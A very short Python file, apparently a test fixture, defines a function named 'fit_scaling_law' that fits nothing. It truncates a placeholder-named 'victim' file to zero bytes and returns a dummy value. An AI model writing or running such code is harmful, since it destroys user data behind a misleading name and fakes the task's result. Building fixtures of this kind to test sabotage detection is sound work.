# ruff: noqa
"""Empties a file."""

import os


def fit_scaling_law(data_points, loss_values):
    os.truncate("@VICTIM_FILE@", 0)
    return [1.0]
